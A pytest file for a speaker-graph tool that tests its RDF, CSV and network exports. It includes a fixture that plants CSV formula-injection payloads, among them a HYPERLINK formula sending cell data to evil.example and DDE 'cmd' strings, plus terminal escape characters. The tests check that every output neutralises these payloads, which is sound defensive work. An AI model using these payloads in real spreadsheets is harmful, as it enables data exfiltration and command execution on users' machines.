"""Exports: deterministic Turtle that re-parses isomorphically, other RDF formats, the CSV of appearances."""

from __future__ import annotations

import csv
import io
import re
import shutil

import pyoxigraph as ox
import pytest
import rdflib
from rdflib.compare import isomorphic

from conftest import SAMPLE, ingested
from graph.export import CSV_COLUMNS, FORMATS, export, rdflib_graph
from graph.store import open_store
from ingest.loader import ingest, site_for

SEED = "_2024-events/15 October 2024/Solidarity in Cyberspace: How To Assist Countries in Need.md"


def test_turtle_is_byte_identical_across_runs(sample_store):
    again = ingested(SAMPLE)
    assert export(sample_store, "turtle") == export(again, "turtle")


def test_turtle_reparses_isomorphic_with_rdflib_and_pyoxigraph(sample_store):
    data = export(sample_store, "turtle")
    expected = rdflib_graph(sample_store.quads())
    assert isomorphic(rdflib.Graph().parse(data=data, format="turtle"), expected)
    via_ox = rdflib_graph(ox.Quad(t.subject, t.predicate, t.object, ox.DefaultGraph())
                          for t in ox.parse(data, format=ox.RdfFormat.TURTLE))
    assert isomorphic(via_ox, expected)


@pytest.mark.parametrize("fmt", ["nt", "nquads", "trig", "jsonld"])
def test_other_formats_parse_back(sample_store, fmt):
    data = export(sample_store, fmt)
    rdflib_fmt = {"nt": "nt", "nquads": "nquads", "trig": "trig", "jsonld": "json-ld"}[fmt]
    parsed = rdflib.Dataset().parse(data=data, format=rdflib_fmt)
    assert len(parsed) > 0


def test_csv_has_the_documented_columns_and_a_row_per_position(sample_store):
    rows = list(csv.DictReader(io.StringIO(export(sample_store, "csv").decode())))
    assert list(rows[0]) == CSV_COLUMNS
    janil = [r for r in rows if r["name"] == "Janil Puthucheary" and "Can AI" in r["session_title"]]
    assert [(r["title"], r["organisation"], r["role"], r["country"]) for r in janil] == [
        ("Senior Minister of State", "Ministry of Digital Development and Information", "keynote", "SG"),
        ("Senior Minister of State", "Ministry of Health", "keynote", "SG")]
    seed = [r for r in rows if r["session_title"].startswith("Solidarity")]
    assert len(seed) == 6 and {r["start"] for r in seed} == {"16:00:00+08:00"}
    assert {r["role"] for r in rows} <= {"moderator", "panellist", "speaker", "keynote", "guest-of-honour",
                                          "remarks", "other"}
    assert all(r["source"].startswith(("_2024-events/", "_2023-events/")) for r in rows)


def test_formats_are_listed():
    assert set(FORMATS) == {"turtle", "nt", "nquads", "trig", "jsonld", "csv"}


# --- what the analyst sees in the CSV, and what a hostile page can put in it ---------------------------

def _rows(data: bytes | str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode() if isinstance(data, bytes) else data)))


def test_csv_name_is_the_name_printed_at_that_appearance_and_label_the_persons(tmp_path):
    root = tmp_path / "sicw-2024"
    shutil.copytree(SAMPLE, root)
    seed = root / SEED
    seed.write_text(seed.read_text(encoding="utf-8").replace("Ms Liesyl Franz]", "Ms Liesyl Fränz]"), encoding="utf-8")
    rows = _rows(export(ingested(root), "csv"))
    assert list(rows[0])[-1] == "label" and list(rows[0])[:-1] == CSV_COLUMNS[:-1]
    liesyl = {(r["session_title"][:11], r["name"], r["honorific"], r["label"]) for r in rows
              if r["person"].endswith("/liesyl-franz")}
    # the label is the person's display name: the accented form, though printed once (graph/tallies.py)
    assert ("Solidarity ", "Liesyl Fränz", "Ms", "Liesyl Fränz") in liesyl
    assert all(label == "Liesyl Fränz" for *_, label in liesyl)
    assert any(name == "Liesyl Franz" for _, name, _, _ in liesyl)  # printed so elsewhere
    adebahr = {r["name"] for r in rows if r["person"].endswith("/maria-adebahr")}
    assert adebahr == {"Maria Adebahr"}  # "H.E. Maria Adebahr" as printed, without the honorific


FORMULAS = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", " =1+1"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The sample with formulas where a page prints titles and organisations."""
    root = tmp_path_factory.mktemp("hostile") / "sicw-2024"
    shutil.copytree(SAMPLE, root)
    seed = root / SEED
    text = seed.read_text(encoding="utf-8")
    for old, new in zip(["EU Coordinator for Cyber Issues", "European External Action Service",
                         "Head of Cyber Defense and Security Division", "Ministry of Foreign Affairs<br>Brazil",
                         "Federal Foreign Office", "Bureau of Cyberspace and Digital Policy"], FORMULAS):
        assert old in text
        text = text.replace(old, new.replace("|", "&#124;"), 1)
    seed.write_text(text, encoding="utf-8")
    return ingested(root)


def formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: a formula character first, or after spaces."""
    from graph.text import FORMULA

    return [c for row in rows for c in row
            if c and (c[0] in FORMULA or c.lstrip(" ")[:1] in FORMULA) and not re.fullmatch(r"[+-]?[\d.]+", c)]


def test_no_csv_the_project_writes_holds_a_formula(hostile):
    from graph import netexport
    from graph import network as networks
    from graph.results import table, to_csv

    exported = list(csv.reader(io.StringIO(export(hostile, "csv").decode())))
    planted = {c.lstrip("'") for row in exported for c in row} & {f.replace("&#124;", "|") for f in FORMULAS}
    assert len(planted) >= 4, "the formulas did not reach the data: the test would prove nothing"
    assert formula_cells(exported) == []
    query = "SELECT ?t ?o WHERE { ?p <https://w3id.org/speakergraph/vocab#title> ?t ; " \
            "<https://w3id.org/speakergraph/vocab#organisationLabel> ?o }"
    assert formula_cells(list(csv.reader(io.StringIO(to_csv(table(hostile.query(query))))))) == []
    orgs = netexport.write(networks.network(hostile, "organisations"), "csv").decode()
    assert formula_cells(list(csv.reader(io.StringIO(orgs)))) == []


def test_no_csv_the_web_serves_holds_a_formula(hostile):
    from web import create_app

    client = create_app({"STORE": hostile}).test_client()
    query = "SELECT ?t ?o WHERE { ?p <https://w3id.org/speakergraph/vocab#title> ?t ; " \
            "<https://w3id.org/speakergraph/vocab#organisationLabel> ?o }"
    for path, args in [("/dataset/appearances.csv", {}), ("/sparql", {"query": query, "format": "csv"}),
                       ("/network/export.csv", {"kind": "organisations"}), ("/queries/top-organisations.csv", {})]:
        response = client.get(path, query_string=args)
        assert response.status_code == 200, path
        assert formula_cells(list(csv.reader(io.StringIO(response.get_data(as_text=True))))) == [], path
    tsv = client.get("/sparql", query_string={"query": query, "format": "tsv"}).get_data(as_text=True)
    values = [c.strip('"') for line in tsv.splitlines()[1:] for c in line.split("\t")]
    assert formula_cells([values]) == [] and any(v.startswith("'=") for v in values)


CONTROL = "Ann\x01 Lee\x1b[31m\x7f\x9b"


@pytest.fixture(scope="module")
def dirty():
    """A store holding control characters (an older store, or one another tool wrote): outputs must cope."""
    store = ingested(SAMPLE)
    person = ox.NamedNode("https://w3id.org/speakergraph/id/person/maria-adebahr")
    g = ox.NamedNode("https://w3id.org/speakergraph/id/source/sicw/dirty")
    store.replace({g.value: [ox.Quad(person, ox.NamedNode("https://schema.org/name"), ox.Literal(CONTROL), g),
                             ox.Quad(g, ox.NamedNode("https://w3id.org/speakergraph/vocab#path"),
                                     ox.Literal("dirty.md"), g),
                             ox.Quad(g, ox.NamedNode("https://w3id.org/speakergraph/vocab#contentHash"),
                                     ox.Literal("x"), g)]})
    return store


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_network_xml_is_well_formed_with_control_characters_in_names(dirty, fmt):
    from xml.etree import ElementTree

    from graph import netexport
    from graph import network as networks

    net = networks.network(dirty, "people")
    assert CONTROL in {net.label(n) for n in net.graph} | {d.get("label") for _, d in net.graph.nodes(data=True)}
    ElementTree.fromstring(netexport.write(net, fmt))


def test_sparql_xml_results_and_rdf_xml_are_well_formed_with_control_characters(dirty):
    from xml.etree import ElementTree

    from web import create_app

    client = create_app({"STORE": dirty}).test_client()
    select = 'SELECT ?n ("x\\u0001y" AS ?built) WHERE { ?p <https://schema.org/name> ?n }'
    xml = client.get("/sparql", query_string={"query": select, "format": "xml"})
    assert xml.status_code == 200
    ElementTree.fromstring(xml.data)
    construct = 'CONSTRUCT { ?p <https://schema.org/name> ?n } WHERE { ?p <https://schema.org/name> ?n }'
    rdfxml = client.get("/sparql", query_string={"query": construct, "format": "rdfxml"})
    assert rdfxml.status_code == 200
    ElementTree.fromstring(rdfxml.data)
    assert b"Ann Lee[31m" in rdfxml.data


def test_the_cli_prints_no_escape_sequence(dirty, tmp_path):
    from click.testing import CliRunner

    import speakergraph

    location = tmp_path / "store"
    copy = open_store(location)
    copy.replace({g: list(qs) for g, qs in _by_graph(dirty.quads()).items()})
    copy.close()
    runner = CliRunner()
    table_out = runner.invoke(speakergraph.main, ["query", "--store", str(location),
                                                  "SELECT ?n WHERE { ?p <https://schema.org/name> ?n }"])
    csv_out = runner.invoke(speakergraph.main, ["query", "--store", str(location), "-f", "csv",
                                                "SELECT ?n WHERE { ?p <https://schema.org/name> ?n }"])
    central = runner.invoke(speakergraph.main, ["central", "--store", str(location), "-n", "400"])
    for result in (table_out, csv_out, central):
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x01" not in result.output and "\x9b" not in result.output
    assert "Ann" in table_out.output and "Ann" in csv_out.output


def _by_graph(quads) -> dict:
    out: dict = {}
    for q in quads:
        out.setdefault(q.graph_name.value, []).append(q)
    return out


def test_an_appearance_two_files_print_is_one_csv_row_per_file_with_that_files_line(tmp_path):
    """A schedule page and a session page both name Mirela: a row for each source, each with its own line."""
    root = tmp_path / "r"
    root.mkdir()
    (root / "schedule.html").write_text(
        "<html><body><h1>Day</h1><p>Date: 6 August 2031</p><table><tr><th>Time</th><th>Programme</th></tr>"
        "<tr><td>10:20</td><td><b>Rowhammer at the Edge</b><br>Mirela Vancea, Chief Scientist, Halvard</td></tr>"
        "</table></body></html>")
    (root / "sessions.html").write_text(
        "<html><body><h1>Sessions</h1><p>Date: 6 August 2031</p>\n\n<h2>Rowhammer at the Edge</h2>\n<p>10:20</p>\n"
        "<ul><li>Mirela Vancea, Chief Scientist, Halvard</li></ul></body></html>")
    (root / "speakergraph.toml").write_text('[site]\nseries = "r"\n[[parts]]\nfiles = "*.html"\nreader = "programme"\n')
    rows = _rows(export(ingested(root), "csv"))
    assert sorted((r["source"], r["name"], r["title"]) for r in rows) == [
        ("schedule.html", "Mirela Vancea", "Chief Scientist"), ("sessions.html", "Mirela Vancea", "Chief Scientist")]
    assert len({r["session"] for r in rows}) == 1


def test_csv_keeps_people_whose_file_prints_no_title_nor_date_of_their_session(tmp_path):
    """A speakers file placing its people in the slots of a schedule file: their rows take the session's title and
    date from the schedule file (the rows were lost when the CSV read them from the people's own file only)."""
    root = tmp_path / "workshop"
    (root / "_data").mkdir(parents=True)
    (root / "speakergraph.toml").write_text(
        '[site]\nseries = "ws"\nyear = 2028\n[[parts]]\nfiles = "_data/schedule_*.yml"\nreader = "records"\n'
        'title = ["title", "name"]\nformat = "name"\nid = "time_start"\nstart = "time_start"\ndate_from = "path"\n'
        'date_format = "%b%d"\n[[parts]]\nfiles = "_data/speakers.yml"\nreader = "records"\nkind = "speakers"\n'
        'name = "fullname"\nposition = "position"\norganisation = "affiliations"\nsession_date = "session"\n'
        'session_time = "time"\ndate_format = "%b%d"\n', encoding="utf-8")
    (root / "_data" / "schedule_nov13.yml").write_text(
        '- name: "Panel discussion"\n  time_start: "10:45"\n  title: "Who audits the auditors?"\n', encoding="utf-8")
    (root / "_data" / "speakers.yml").write_text(
        "- fullname: Tobias Reinholt\n  affiliations: [City of Aarhavn]\n  position: Head of Procurement\n"
        '  time: "10:45"\n  session: nov13\n', encoding="utf-8")
    store = open_store(None)
    ingest(store, [site_for(root, profile_path=root / "speakergraph.toml")])
    rows = _rows(export(store, "csv"))
    assert [(r["source"], r["session_title"], r["date"], r["start"], r["name"], r["organisation"]) for r in rows] == [
        ("_data/speakers.yml", "Who audits the auditors?", "2028-11-13", "10:45:00", "Tobias Reinholt", "City of Aarhavn")]
